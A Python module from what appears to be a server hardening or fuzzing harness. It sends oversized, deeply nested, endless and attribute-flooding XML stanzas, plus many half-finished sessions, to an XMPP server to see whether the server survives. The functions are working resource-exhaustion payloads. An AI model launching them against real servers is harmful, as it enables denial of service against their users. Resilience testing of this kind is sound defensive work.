"""Attacks of one stanza, or of few: they need a session."""

import itertools
from collections.abc import Iterator

from .attacker import Attacker

LONG = 250_000  # bytes: just below the default limit of a stanza


async def _by_bytes(attacker: Attacker, name: str, data: bytes, size: int = 1) -> str:
    line = await attacker.session(name)
    line.listens()
    await line.floods(data[start : start + size] for start in range(0, len(data), size))
    return await line.fate()


async def long_attribute(attacker: Attacker) -> str:
    """An attribute of 250 000 bytes, byte by byte."""
    return await _by_bytes(attacker, "mallory", b"<message to='bystander@localhost' id='" + b"x" * LONG + b"'/>")


async def long_text(attacker: Attacker) -> str:
    """A body of 250 000 bytes, two by two."""
    text = "\u0436".encode() * (LONG // 2)
    return await _by_bytes(
        attacker, "mallory", b"<message to='mallory@localhost'><body>" + text + b"</body></message>", 2
    )


async def long_entity(attacker: Attacker) -> str:
    """A reference to an entity whose name has 250 000 bytes, byte by byte."""
    return await _by_bytes(attacker, "mallory", b"<message><body>&" + b"x" * LONG)


async def endless(attacker: Attacker) -> str:
    """A stanza without an end."""
    return await _by_bytes(attacker, "mallory", b"<message><body>" + b"x" * 10_000_000, 65536)


async def nested(attacker: Attacker) -> str:
    """10 000 levels of elements."""
    return await _by_bytes(attacker, "mallory", b"<message>" + b"<a>" * 10_000, 65536)


async def wide(attacker: Attacker) -> str:
    """100 stanzas of 10 000 elements each."""
    stanza = b"<message to='mallory@localhost/bench'>" + b"<a/>" * 9_999 + b"</message>"
    return await _by_bytes(attacker, "mallory", stanza * 100, 65536)


async def million_attributes(attacker: Attacker) -> str:
    """A tag with a million attributes."""
    return await _by_bytes(
        attacker, "mallory", b"<message " + b" ".join(b"a%d=''" % n for n in range(1_000_000)), 65536
    )


def _with_new_names(form: bytes, count: int, together: int) -> Iterator[bytes]:
    names = itertools.count()
    for _ in range(count // together):
        inner = b"".join(form % next(names) for _ in range(together))
        yield b"<iq type='get' id='n' to='localhost'><x xmlns='urn:x'>" + inner + b"</x></iq>"


async def new_elements(attacker: Attacker) -> str:
    """A million names of elements, none of them twice, 1000 a stanza."""
    line = await attacker.session("mallory")
    line.listens()
    await line.floods(_with_new_names(b"<n%d/>", 1_000_000, 1000))
    return await line.fate()


async def new_attributes(attacker: Attacker) -> str:
    """A million names of attributes."""
    line = await attacker.session("mallory")
    line.listens()
    await line.floods(_with_new_names(b"<n a%d=''/>", 1_000_000, 1000))
    return await line.fate()


async def unfinished(attacker: Attacker) -> str:
    """100 sessions that stop in the middle of a stanza of 250 000 bytes, sent two by two."""
    lines = [await attacker.session(f"mallory{number}") for number in range(100)]
    start = b"<message><body>"
    for line in lines:
        line.listens()
        line.send(start)
    half = "\u0436".encode() * 2048
    for _ in range(LONG // len(half)):
        for line in lines:
            await line.floods([half])
    for line in lines:
        line.closes()
    return "closed by the client"


ATTACKS = (
    long_attribute, long_text, long_entity, endless, nested, million_attributes, wide, new_elements, new_attributes,
    unfinished,
)  # fmt: skip
